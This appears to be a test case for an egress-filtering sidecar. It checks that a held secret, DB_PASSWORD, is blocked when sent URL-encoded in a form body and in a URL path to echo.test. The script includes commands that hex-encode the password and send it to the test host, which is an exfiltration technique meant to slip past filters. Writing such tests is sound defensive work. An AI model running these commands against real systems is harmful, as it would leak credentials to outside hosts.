# S4: held secret URL-encoded in a form body and in the path (HTTPS, h1 and h2)
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# audit-min: 4
# upstream-must-not-see: DB_PASSWORD
# host-check: echo-untouched
enc=$(printf %s "$DB_PASSWORD" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
body=1; path=1
h1h2 --data-urlencode "p=$DB_PASSWORD" https://echo.test/allowed/u || body=0
h1h2 "https://echo.test/allowed/$enc" || path=0
[ "$body" = 1 ] || [ "$path" = 1 ]
